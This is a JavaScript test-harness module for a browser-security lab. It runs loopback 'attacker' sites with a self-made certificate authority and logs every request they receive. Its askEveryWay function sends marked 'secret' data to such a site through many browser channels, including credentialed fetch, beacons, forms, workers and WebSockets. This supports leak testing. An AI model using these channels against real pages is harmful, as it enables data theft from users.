// Sites of an attacker on loopback: HTTPS at names that an authority of this machine certified, and plain HTTP at any name.
// They log whatever they get.
//
//     const thief = await attacker(lab, { hosts: [`sub.${lab.host}`] }); // before launch(): it adds its authority to lab.trusted
//     const own = await launch(kind, lab, thief.launchOptions(kind));
//     thief.on("/page", () => `<!doctype html>…`);
//     await go(page, thief.https.url(`sub.${lab.host}`, "/page"));
//     thief.log; // [{ scheme, host, method, url, headers, body }], a WebSocket's handshake with method "WEBSOCKET"
//     thief.stop();
import http from "node:http";
import https from "node:https";
import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { isIP } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { removeFolder } from "./machine.mjs";

const openssl = (folder, ...args) => execFileSync("openssl", args, { cwd: folder, stdio: ["ignore", "ignore", "pipe"] });
const NEW_KEY = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"];

/** An authority of its own: a file with its certificate. */
function makeAuthority(folder) {
    const ca = ["-keyout", "ca.key", "-out", "ca.pem", "-days", "99", "-subj", "/CN=Machine authority"];
    const may = ["-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign"];
    openssl(folder, "req", "-x509", ...NEW_KEY, ...ca, ...may);
    return join(folder, "ca.pem");
}

/** A certificate by the authority: its files. */
function certify(folder, name, ...extensions) {
    writeFileSync(join(folder, "extensions"), [...extensions, "keyUsage=digitalSignature", ""].join("\n"));
    openssl(folder, "req", "-new", ...NEW_KEY, "-keyout", `${name}.key`, "-out", `${name}.csr`, "-subj", `/CN=${name}`);
    const by = ["-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-days", "90", "-extfile", "extensions"];
    openssl(folder, "x509", "-req", "-in", `${name}.csr`, "-out", `${name}.pem`, ...by);
    return { key: join(folder, `${name}.key`), certificate: join(folder, `${name}.pem`) };
}

/**
 * Starts the sites. `hosts`: the names that the certificate is for; `names`: further ones that the browsers find on loopback too;
 * `tls`: more that the server over TLS is told; `visitors`: the version of TLS by which it asks for a client certificate, if it does.
 */
export async function attacker(lab, { hosts = [`sub.${lab.host}`], names = [], tls: more = {}, visitors } = {}) {
    const folder = mkdtempSync(join(tmpdir(), "doorlight-attacker-"));
    const ca = makeAuthority(folder);
    lab.trusted.push(ca);
    const alternatives = hosts.map((host) => `${isIP(host) ? "IP" : "DNS"}:${host}`).join(",");
    const certifySite = (name) => certify(folder, name, `subjectAltName=${alternatives}`, "extendedKeyUsage=serverAuth");
    const asks = visitors && { requestCert: true, rejectUnauthorized: true, minVersion: visitors, maxVersion: visitors };
    const contextOf = ({ key, certificate }) => ({ key: readFileSync(key), cert: readFileSync(certificate), ca: readFileSync(ca), ...asks, ...more });
    const files = certifySite("site");
    const log = [];
    const handlers = new Map();
    const note = (scheme, { method, url, headers }, body) => {
        const entry = { scheme, host: headers.host ?? "", method, url, headers, body };
        log.push(entry);
        return entry;
    };
    const serve = (scheme) => async (request, response) => {
        const parts = [];
        for await (const part of request) parts.push(part);
        const entry = note(scheme, request, Buffer.concat(parts).toString());
        if (sites.head && request.method === "HEAD") return sites.head(request, response);
        const handler = handlers.get(request.url.split("?")[0]);
        const answer = handler ? await handler(entry, response) : { status: 404, body: "not found" };
        if (answer === undefined) return;
        const parsed = typeof answer === "string" ? { body: answer } : answer;
        const { status = 200, type = "text/html; charset=utf-8", headers = {}, body = "" } = parsed;
        // Without a connection that is kept, each request is seen as it comes.
        const common = { "content-type": type, "cache-control": "no-store", "access-control-allow-origin": "*", connection: "close" };
        response.writeHead(status, { ...common, "content-length": Buffer.byteLength(body), ...headers }).end(body);
    };
    const start = async (scheme, server) => {
        // A client that hangs up is part of the game.
        server.on("request", (request, response) => serve(scheme)(request, response).catch(() => response.destroy()));
        server.on("upgrade", (request, socket) => {
            note(scheme, { ...request, method: "WEBSOCKET", url: request.url, headers: request.headers }, "");
            socket.on("error", () => {});
            socket.end("HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        });
        server.on("clientError", (_, socket) => socket.destroy());
        server.listen(0, "127.0.0.1");
        await once(server, "listening");
        const { port } = server.address();
        return { port, url: (host, path = "/") => `${scheme}://${host}:${port}${path}` };
    };
    const tls = https.createServer(contextOf(files));
    const plain = http.createServer();
    const sites = {
        https: await start("https", tls),
        http: await start("http", plain),
        /** Answers every HEAD in both schemes, in the place of what is the path's: `head(request, response)`. */
        head: undefined,
        /** The authority's certificate, a file; and its text. */
        ca,
        authority: readFileSync(ca, "utf8"),
        /** The certificate for the hosts, a file. */
        certificate: files.certificate,
        /** A client certificate that the site takes, with its key: a PKCS#12 file without a password. */
        visitor() {
            const { key, certificate } = certify(folder, "visitor", "extendedKeyUsage=clientAuth");
            const file = join(folder, "visitor.p12");
            openssl(folder, "pkcs12", "-export", "-in", certificate, "-inkey", key, "-out", file, "-passout", "pass:", "-name", "Visitor");
            return file;
        },
        /** From now on it presents another certificate for the same hosts, by the same authority. */
        changeKey: () => tls.setSecureContext(contextOf(certifySite("other"))),
        log,
        /**
         * Answers a path, in both schemes and at all names. `handler(entry, response)` returns the text of an HTML page,
         * `{ status, type, headers, body }`, or a promise of one of them; `undefined` if it has answered by itself.
         */
        on: (path, handler) => void handlers.set(path, typeof handler === "function" ? handler : () => handler),
        /** What `launch` has to be given so that the names are found on loopback. In Chromium that goes for every name. */
        launchOptions(kind, { args = [], prefs = {}, ...more } = {}) {
            if (kind === "chromium") return { ...more, args: ["--host-resolver-rules=MAP * 127.0.0.1", ...args] };
            const local = [lab.host, lab.other_host, lab.look_alike_host, ...hosts, ...names].join(",");
            return { ...more, args, prefs: { "network.dns.localDomains": local, ...prefs } };
        },
        stop() {
            for (const server of [tls, plain]) {
                server.close();
                server.closeAllConnections();
            }
            removeFolder(folder);
        },
    };
    return sites;
}

/** The ways of asking in {@link askEveryWay}. */
export const WAYS = ["picture", "script", "style", "object", "embed", "video", "frame", "srcdoc", "sandboxed", "fetch", "post",
    "keepalive", "beacon", "worker", "form", "event-source", "socket"];

/**
 * Asks the site `to` in each of the {@link WAYS}: for `/echo?MARK-WAY-secret`. Runs in a page (`page.evaluate(askEveryWay, to, mark)`, or
 * as text in a page of the attacker's); returns when every request whose end is reported has ended.
 */
export async function askEveryWay(to, mark) {
    const url = (way) => `${to}/echo?${mark}-${way}-secret`;
    const add = (tag, attributes) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
        return element;
    };
    add("img", { src: url("picture") });
    add("script", { src: url("script") });
    add("link", { rel: "stylesheet", href: url("style") });
    add("object", { data: url("object"), type: "text/html" });
    add("embed", { src: url("embed"), type: "text/html" });
    add("video", { src: url("video"), preload: "auto" });
    add("iframe", { src: url("frame") });
    add("iframe", { srcdoc: `<img src="${url("srcdoc")}">` });
    add("iframe", { sandbox: "allow-scripts", src: url("sandboxed") });
    const asked = [
        fetch(url("fetch"), { mode: "no-cors", credentials: "include" }),
        fetch(url("post"), { mode: "no-cors", credentials: "include", method: "POST", body: "secret" }),
        fetch(url("keepalive"), { mode: "no-cors", credentials: "include", keepalive: true }),
    ];
    navigator.sendBeacon(url("beacon"), "secret");
    const code = `fetch("${url("worker")}", { mode: "no-cors", credentials: "include" }).then(() => postMessage(1), () => postMessage(0))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    asked.push(new Promise((done) => (worker.onmessage = worker.onerror = done)));
    add("iframe", { name: `form-${mark}` });
    const form = add("form", { method: "post", action: url("form"), target: `form-${mark}` });
    form.innerHTML = "<input name=secret value=secret>";
    form.submit();
    const source = new EventSource(url("event-source"), { withCredentials: true });
    asked.push(new Promise((done) => (source.onopen = source.onerror = done)).then(() => source.close()));
    const socket = new WebSocket(url("socket").replace(/^http/, "ws"));
    asked.push(new Promise((done) => (socket.onopen = socket.onclose = done)));
    await Promise.allSettled(asked);
}

/** The ways of {@link askEveryWay} in which a site was asked with this mark: `targets` are the paths that it got. */
export const waysIn = (targets, mark) =>
    targets.map((target) => target.match(new RegExp(`^/echo\\?${mark}-(.+)-secret$`))?.[1]).filter(Boolean);
